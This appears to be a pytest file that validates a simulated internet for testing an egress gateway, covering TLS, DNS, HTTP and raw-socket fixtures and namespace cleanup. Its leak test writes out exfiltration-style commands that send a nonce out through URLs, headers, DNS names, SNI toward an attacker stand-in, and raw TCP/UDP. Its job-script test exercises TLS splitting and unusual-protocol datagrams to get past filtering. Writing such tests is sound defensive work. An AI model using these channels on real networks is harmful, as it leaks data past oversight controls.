"""The fake internet itself: every client works against it without a gateway, and it sees and forgets what it should.

If these fail, a failure elsewhere says nothing about the gateway.
"""
from __future__ import annotations

import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from clients import CLIENTS
from world import names


@pytest.mark.parametrize("client", CLIENTS, ids=lambda c: c.name)
def test_client_works_directly(world, client, user):
    folder = world.job_folder(user, client.project)
    client.prepare(folder, user)
    since = world.evidence.mark()
    done = world.direct(client.command, user, folder)
    assert done.code == 0, done
    client.check(world, folder, done, world.evidence.events(since))


def test_clients_do_not_trust_the_fixtures_by_themselves(world):
    """Else nothing behind the gateway would prove that its CA is trusted."""
    assert world.run("curl -sS https://echo.example/").code == 60


def test_nonce_is_found_wherever_it_leaks(world):
    leaks = {
        "url": "curl -sS https://echo.example/{}", "header": "curl -sS -H 'X-Nonce: {}' https://files.example/small.txt",
        "body": "curl -sS -d '{}' https://echo.example/", "name": "dig +tries=1 {}.denied.example",
        "sni": "curl -skS --connect-to ::{address}:443 https://{}.unknown.test/; true",
        "tcp": "printf %s {} | timeout 1 socat - TCP:raw.example:9",
        "udp": "printf %s {} | socat - UDP:8.8.8.8:123; true",
        "upper case": "dig +tries=1 $(echo {} | tr a-z A-Z).denied.example",
    }
    for way, command in leaks.items():
        nonce = world.nonce()
        assert world.traces(nonce) == []
        done = world.direct(command.format(nonce, address=names.ATTACKER))
        assert world.traces(nonce), f"{way} left no trace: {done}"


def test_packets_to_any_address_are_seen(world):
    since = world.evidence.mark()
    world.direct("for a in 8.8.8.8 1.2.3.4; do curl -s -m 2 http://$a/; done; curl -s -m 2 http://[2a00::1]/")
    world.settle()
    targets = {p.destination for p in world.evidence.packets(since) if p.is_syn}
    assert {"8.8.8.8", "1.2.3.4", "2a00::1"} <= targets


@pytest.mark.parametrize("host", names.BAD_TLS)
def test_bad_certificates_are_bad(world, host):
    assert world.direct(f"curl -sS https://{host}/").code in (35, 60)


@pytest.mark.parametrize("host", names.GOOD_TLS)
def test_unusual_certificates_are_good(world, host):
    assert world.direct(f"curl -fsS https://{host}/").code == 0


def test_old_tls_is_old(world):
    url = f"https://{names.OLD_TLS}/"
    done = world.direct(f"curl -sS {url}; curl -sS --tls-max 1.1 --ciphers DEFAULT@SECLEVEL=0 {url}")
    assert done.code == 0 and "(35)" in done.err and '"sni"' in done.out, done


def test_dns_zone(world):
    done = world.direct("dig +short svc.example HTTPS; dig +short many.example | wc -l; dig missing.example; dig broken.example;"
                        "dig +short alias.example; dig +tcp +short v6only.example AAAA; dig v6only.example A")
    for expected in ("ech=", "\n80\n", "NXDOMAIN", "SERVFAIL", "target.alias.example.\n" + names.ORIGIN, names.ORIGIN6):
        assert expected in done.out, f"{expected!r} is missing: {done}"


def test_http_shapes(world):
    done = world.direct("curl -sS https://echo.example/trailers https://echo.example/until-close https://echo.example/early; "
                        "curl -sSI https://echo.example/status/304; "
                        "curl -sS 'https://echo.example/stream?bytes=1000000&chunked' | wc -c; "
                        "head -c 2000000 /dev/zero | curl -sS -T - https://echo.example/up")
    for expected in ("body", "until the end", "after hints", "304 Fixture", "1000000\n", '"length": 2000000'):
        assert expected in done.out, f"{expected!r} is missing: {done}"


def test_raw_services(world):
    done = world.direct("printf ping | socat -t1 - TCP:raw.example:7; socat -u -T1 TCP:raw.example:2222 -; "
                        "printf HELO | socat -t1 - TCP:raw.example:443")
    assert done.out == "pingSSH-2.0-fixture_1.0\r\nHELO", done


def test_job_scripts(world):
    """What the jobs of the other tests run to misbehave: here it reaches its goal."""
    nonce, script = world.nonce(), f"/usr/bin/python3 {world.scripts}"
    request = "printf 'GET /split HTTP/1.1\\r\\nHost: echo.example\\r\\nConnection: close\\r\\n\\r\\n'"
    for cut in ("--hello-segments 1", "--hello-records 30", "--segments 1"):
        done = world.direct(f"{request} | {script}/raw_client.py --tls {cut} echo.example 443")
        assert '"target": "/split"' in done.out and "peer-closed" in done.err, done
    assert "served 300 of 300" in world.direct(f"{script}/burst.py {names.FILES} /1k 300").out
    for protocol in ("udp", "icmp", "sctp", "gre"):
        text = f"{protocol}{nonce}"
        done = world.direct(f"{script}/datagram.py {protocol} 8.8.8.8 123 {text}")
        assert world.traces(text), done
    assert world.direct(f"{script}/dns_messages.py dribble").out == "[(1, 0), (2, 0), (3, 0)]\n"
    world.direct(f"{script}/dns_messages.py mutate")
    assert "93.184" in world.direct("dig +short echo.example").out


_ONE_WORLD = """
import sys, time
sys.dont_write_bytecode = True
sys.path.insert(0, sys.argv[1])
from world.fake_internet import FakeInternet
world = FakeInternet()
world.start(["sleep", "600"], world.job_folder())
print(world.folder, world.network.net, world.network.gw, flush=True)
if sys.argv[2] == "close":
    left = world.close()
    assert left == [] and world.close() == [], left
else:
    time.sleep(600)
"""


def leftovers(folder: str, namespaces: list[str]) -> list[str]:
    listed = subprocess.run(["ip", "netns", "list"], capture_output=True, text=True, check=True).stdout
    found = [name for name in namespaces if name in listed]
    running = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True, check=True).stdout
    found += [line for line in running.splitlines() if folder in line]
    return found + [str(p) for p in (Path(folder), *(Path("/etc/netns") / n for n in namespaces)) if p.exists()]


def test_a_world_leaves_nothing():
    done = subprocess.run([sys.executable, "-c", _ONE_WORLD, str(Path(__file__).parent), "close"], capture_output=True,
                          text=True, check=True)
    folder, *namespaces = done.stdout.split()
    assert leftovers(folder, namespaces) == []


def test_a_killed_world_is_cleared_away_by_the_next():
    with subprocess.Popen([sys.executable, "-c", _ONE_WORLD, str(Path(__file__).parent), "wait"], stdout=subprocess.PIPE,
                          text=True) as first:
        folder, *namespaces = first.stdout.readline().split()
        os.kill(first.pid, signal.SIGKILL)
    time.sleep(0.2)
    subprocess.run([sys.executable, "-c", _ONE_WORLD, str(Path(__file__).parent), "close"], capture_output=True, check=True)
    assert leftovers(folder, namespaces) == []
